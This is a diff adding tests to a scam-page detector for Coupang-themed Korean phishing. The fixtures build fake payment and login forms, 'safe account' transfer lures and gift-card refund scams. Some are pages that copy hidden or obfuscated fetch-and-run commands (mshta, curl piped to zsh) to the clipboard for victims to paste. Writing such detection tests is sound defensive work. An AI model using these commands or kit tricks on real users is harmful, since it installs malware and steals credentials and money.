@@ -1,6 +1,6 @@
 import { parseHTML } from 'linkedom';
 import { describe, expect, it } from 'vitest';
-import { scanPage } from '../../lib/page/index';
+import { pageMayConcernBrand, scanPage } from '../../lib/page/index';
 import { parse } from './helpers';
 
 /**
@@ -244,5 +244,184 @@ describe("author U's honest pages", () => {
       `<h2>회원 로그인</h2>${login}<footer><p>상호 쿠팡(주) · 대표이사 김범석 · 통신판매업 2014-서울송파-0000</p></footer>`,
     );
     expect(verdict(kit, 'https://member-cp.example/login')).toBe('suspicious-page');
+  });
+});
+
+describe("the red team's answers to page21 (/work/redteam21: each kit rewritten around one rule)", () => {
+  it('reads labels a script keeps in objects, backticks or one string to split, not only in arrays', () => {
+    const shell = (script: string) =>
+      page(
+        '결제 확인',
+        `<div class="logo">쿠팡</div><h2>재결제 확인</h2><div id="w"></div><button id="b">다음</button><script>${script}</script>`,
+      );
+    const make = `function mk(t){var e=document.createElement('input');e.placeholder=t;document.getElementById('w').appendChild(e);}`;
+    for (const script of [
+      `var F={n:{label:'카드 번호'},e:{label:'유효기간'},c:{label:'CVC'}};document.getElementById('b').onclick=function(){for(var k in F)mk(F[k].label)};${make}`,
+      `document.getElementById('b').onclick=function(){'이름,생년월일 6자리,휴대폰,SMS 인증번호'.split(',').forEach(mk)};${make}`,
+      'document.getElementById("b").onclick=function(){[`카드 번호`,`유효기간`,`CVC`].forEach(mk)};' + make,
+    ])
+      expect(verdict(shell(script), 'https://re-pay.example/'), script.slice(0, 60)).toBe('suspicious-page');
+  });
+
+  it("puts back letters a stylesheet's classes order, and reads a picture's lines set as <tspan>s", () => {
+    const ordered = page(
+      '결제 알림',
+      '<style>.r{display:inline-flex}.o1{order:1}.o2{order:2}</style><div><span class="r"><b class="o2">팡</b><b class="o1">쿠</b></span> 결제 알림</div>' +
+        '<p>해외 결제가 승인되었습니다. 본인이 아니면 전화 주세요.</p><a href="tel:0262001234">02-6200-1234</a>',
+    );
+    expect(verdict(ordered, 'https://pay-alert.example/')).toBe('suspicious-page');
+    const lines = ['[쿠팡] 결제보호센터', '해외 결제 승인 USD 879.00', '본인 결제가 아니면 취소하세요'];
+    const spans = `data:image/svg+xml;base64,${Buffer.from(
+      `<svg xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">${lines
+        .map((l, i) => `<tspan x="10" dy="${i ? 24 : 0}">${l}</tspan>`)
+        .join('')}</text></svg>`,
+    ).toString('base64')}`;
+    const kit = page(
+      '안내',
+      `<img src="${spans}" alt=""><form><input type="password" placeholder="결제 비밀번호 6자리"><button>결제 취소</button></form>`,
+    );
+    expect(verdict(kit, 'https://notice-pay.example/')).toBe('suspicious-page');
+    // a card-news page that quotes the scam's text as its picture, with its warning under the quote
+    const news = page(
+      '카드뉴스',
+      `<img src="${svg(['[쿠팡] 피해보상센터', '고객님 명의로 카드가 신청되었습니다', '↑ 이런 문자, 전화하지 마세요'])}" alt="">` +
+        '<p>사기 문자로 돈을 보냈다면 즉시 신고해 주세요.</p><form><input placeholder="상대방 계좌번호"><input placeholder="연락처"><button>피해 신고</button></form>' +
+        '<p>ⓒ 경찰청 사이버수사국</p>',
+    );
+    expect(verdict(news, 'https://police-cardnews.example/n/1')).toBe('clean');
+  });
+
+  it('reads other names for the safe account, and the transfer asked in the next sentence; not an escrow', () => {
+    const kit = (words: string) =>
+      page(
+        '예금 보호',
+        `<div>금융감독원</div><p>쿠팡 유출 사고로 귀하 명의 계좌에서 부정 인출 시도가 확인되었습니다.</p><p>${words}</p>` +
+          '<form><input placeholder="은행"><input placeholder="계좌번호"><button>신청</button></form>',
+      );
+    expect(
+      verdict(kit('예금을 금감원 지정 임시 관리계좌로 옮겨 두시면 보호됩니다.'), 'https://fss-p.example/'),
+    ).toBe('suspicious-page');
+    expect(
+      verdict(
+        kit('국가안전계좌 안내. 수사 종료까지 예금 전액을 위 계좌로 이체해 주세요.'),
+        'https://fss-p.example/',
+      ),
+    ).toBe('suspicious-page');
+    const escrow = page(
+      '안전거래 안내',
+      '<h2>안전거래 이용 방법</h2><p>쿠팡 중고 거래처럼 개인 간 거래에서는 판매자 개인 계좌가 아닌 안전계좌로 입금하세요.</p>' +
+        '<form><input placeholder="환불받을 계좌번호"><button>등록</button></form>',
+    );
+    expect(verdict(escrow, 'https://safe-trade.example/guide')).toBe('clean');
+  });
+
+  it("follows a channel's host joined from pieces, a Kakao open profile and Telegram's other actions", () => {
+    const desk =
+      '<h2>쿠팡 고객지원 채널</h2><p>피해보상 문의는 카카오톡 채널에서만 받습니다. 채널 추가 후 상담을 시작하세요.</p>';
+    const joined = page(
+      '고객지원',
+      `${desk}<a id="k">채널 추가</a><script>var h=location.protocol+'//pf.'+'kakao.com';document.getElementById('k').href=h+'/%5FxAbcd1/chat';</script>`,
+    );
+    expect(verdict(joined, 'https://cp-help.example/')).toBe('suspicious-page');
+    for (const href of ['https://open.kakao.com/me/cp_refund_desk', 'tg://msg?to=cp_refund_desk'])
+      expect(
+        verdict(page('고객지원', `${desk}<a href="${href}">상담 시작</a>`), 'https://cp-help.example/'),
+        href,
+      ).toBe('suspicious-page');
+  });
+
+  it('reads a pasted command stored in hex or reversed, a shell fed curl, and base64 called by its path', () => {
+    const shell = (
+      script: string,
+      steps = '<ol><li>Win + R 로 실행 창을 엽니다</li><li>Ctrl + V 로 붙여넣기</li><li>Enter</li></ol>',
+    ) =>
+      page(
+        '인증 오류',
+        `<div class="logo">쿠팡</div><h2>로그인 인증 오류</h2><button onclick="c()">복사</button>${steps}<script>${script}</script>`,
+      );
+    const hex = Buffer.from('cmd /c echo ok # Human verification 1234').toString('hex');
+    expect(
+      verdict(
+        shell(
+          `function c(){navigator.clipboard.writeText('${hex}'.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16))}).join(''))}`,
+        ),
+        'https://cert-err.example/',
+      ),
+    ).toBe('suspicious-page');
+    const reversed = [...'mshta https://x.example/a.hta # Human verification'].reverse().join('');
+    expect(
+      verdict(
+        shell(`function c(){navigator.clipboard.writeText('${reversed}'.split('').reverse().join(''))}`),
+        'https://cert-err.example/',
+      ),
+    ).toBe('suspicious-page');
+    const mac = '<p>1. Spotlight에서 "터미널"을 엽니다 2. ⌘ + V 로 붙여넣습니다 3. Return</p>';
+    expect(
+      verdict(
+        shell(
+          `function c(){navigator.clipboard.writeText('/bin/zsh -c "$(curl -fsSL https://x.example/i.sh)"')}`,
+          mac,
+        ),
+        'https://wing-view.example/',
+      ),
+    ).toBe('suspicious-page');
+    expect(
+      verdict(
+        shell(
+          `function c(){navigator.clipboard.writeText('echo ZWNobw== | /usr/bin/base64 -D | /bin/zsh')}`,
+          mac,
+        ),
+        'https://wing-view.example/',
+      ),
+    ).toBe('suspicious-page');
+  });
+
+  it('reads a voucher box by its words, a desk named 실 or 단, and work with no commute', () => {
+    const gift = page(
+      '환불 안내',
+      '<div class="logo">쿠팡 고객센터</div><h3>환불 방법</h3><p>유출 관련 환불은 기프트카드로만 진행됩니다. 환불금은 확인 후 입금됩니다.</p>' +
+        '<textarea placeholder="구글플레이 기프트카드 (여러 장은 줄바꿈)"></textarea><button>제출</button>',
+    );
+    expect(verdict(gift, 'https://gc-refund.example/')).toBe('suspicious-page');
+    const login =
+      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>확인</button></form>';
+    expect(
+      verdict(
+        page('확인', `<h1>쿠팡 유출사고 조사실</h1><p>다시 로그인해 주세요.</p>${login}`),
+        'https://probe.example/',
+      ),
+    ).toBe('suspicious-page');
+    const job = page(
+      '모집',
+      '<h1>쿠팡 상품평 도우미 (출퇴근 없음)</h1><p>하루 30분, 상품평 작성으로 일 10만원.</p><a href="tg://msg?to=cp_review">담당자 연결</a>',
+    );
+    expect(verdict(job, 'https://cp-review.example/')).toBe('suspicious-page');
+  });
+
+  it('reads the owner named after 상호 up to a bracket, not the seller channels in it', () => {
+    const login =
+      '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button></form>';
+    const mall = page(
+      '로그인',
+      `<h2>회원 로그인</h2>${login}<footer><p>상호 : 봄날상점(쿠팡 로켓그로스 입점 브랜드) · 통신판매업 2022-서울성동-0000</p></footer>`,
+    );
+    expect(verdict(mall, 'https://bomnal.example/member/login')).toBe('clean');
+  });
+});
+
+describe("the gate on author U's picture of text", () => {
+  it('reads a base64 SVG picture in Hangul as UTF-8, so a page whose only name is drawn there is scanned', () => {
+    const drawn = (lines: string[]) =>
+      parse(page('안내', `<img src="${svg(lines)}" alt=""><a href="tel:07011112222">☎ 070-1111-2222</a>`));
+    expect(
+      pageMayConcernBrand(
+        drawn(['[쿠팡] 결제보호센터', '고객님 명의로 카드가 신청되었습니다']),
+        'https://n.example/',
+      ),
+    ).toBe(true);
+    // the same picture about something else keeps the gate shut
+    expect(
+      pageMayConcernBrand(drawn(['[하루마켓] 배송 안내', '오늘 출발합니다']), 'https://n.example/'),
+    ).toBe(false);
   });
 });
